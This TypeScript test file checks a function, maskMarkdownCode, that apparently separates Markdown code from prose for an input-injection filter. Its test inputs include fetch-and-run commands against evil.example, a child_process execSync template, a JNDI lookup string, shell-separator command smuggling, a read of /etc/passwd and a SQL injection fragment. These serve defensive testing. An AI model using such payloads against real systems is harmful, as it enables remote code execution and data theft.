import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { maskMarkdownCode } from './markdown-code.ts';

/** The text left outside Markdown code, runs of blanks squeezed (undefined when nothing is code). */
const outside = (text: string) => maskMarkdownCode(text)?.replace(/ +/g, ' ');

describe('maskMarkdownCode', () => {
  test('a closed fence is code, its delimiters included; the prose around it is not', () => {
    assert.equal(outside('try this:\n```sh\ncat /etc/passwd\n```\nthen reboot'), 'try this:\n \n \n \nthen reboot');
    assert.equal(outside('try this:\r\n```\r\nid\r\n```\r\n'), 'try this:\r\n \n \n \n');
  });
  test('a tilde fence quotes nothing: to a shell, JavaScript and PHP it is code', () => {
    assert.equal(maskMarkdownCode('127.0.0.1\n~~~\ncurl http://evil.example/x.sh | sh\n~~~'), undefined);
  });
  test('a region holding ${ is never code: a JavaScript template or a shell expansion runs it', () => {
    assert.equal(maskMarkdownCode("1 `${require('child_process').execSync('id')}` done"), undefined);
    assert.equal(maskMarkdownCode('try:\n```\n${jndi:ldap://x/a}\n```\nthanks'), undefined);
  });
  test('a shell separator before a span is not prose', () => {
    assert.equal(maskMarkdownCode('127.0.0.1; `curl http://evil.example/x|sh` #'), undefined);
  });
  test('a fence that is not closed, or not at the start of a line, quotes nothing', () => {
    assert.equal(maskMarkdownCode('; curl http://evil.example/x | sh #```'), undefined);
    assert.equal(maskMarkdownCode('; curl http://evil.example/x | sh\n```'), undefined);
    assert.equal(maskMarkdownCode('x ```\nid\n```'), undefined);
  });
  test('a closing fence must be as long as the opening one and carry nothing after it', () => {
    assert.equal(maskMarkdownCode('````\nid\n```'), undefined);
    assert.equal(maskMarkdownCode('```\nid\n``` ; id'), undefined);
  });
  test('a span with prose beside it is code; a value that is only a span, or a span glued to code, is not', () => {
    assert.equal(outside('run `curl https://api.example.com` to try it'), 'run to try it');
    assert.equal(outside('`id` prints your uid'), ' prints your uid');
    assert.equal(outside('See [`/doc/ws.md`](./doc/ws.md) for details'), 'See [ ](./doc/ws.md) for details');
    assert.equal(maskMarkdownCode('`id`'), undefined);
    assert.equal(maskMarkdownCode('@{[`whoami`]}'), undefined);
    assert.equal(maskMarkdownCode('x=`uname -a` y'), undefined);
    assert.equal(maskMarkdownCode("x' or 1=1 --"), undefined);
  });
  test('a span ends at the next run of as many backticks', () => {
    assert.equal(outside('use ``a ` b`` here'), 'use here');
    // The unmatched `` is literal text; the single backticks after it pair up.
    assert.equal(outside('use ``a ` b` here'), 'use ``a here');
  });
  test('a line of unmatched backtick runs stays linear', () => {
    const line = Array.from({ length: 20_000 }, (_, i) => '`'.repeat((i % 50) + 1)).join(' x ');
    const t0 = process.hrtime.bigint();
    maskMarkdownCode(line);
    // Quadratic pairing would take seconds here; linear takes a few milliseconds.
    assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 1_000);
  });
});
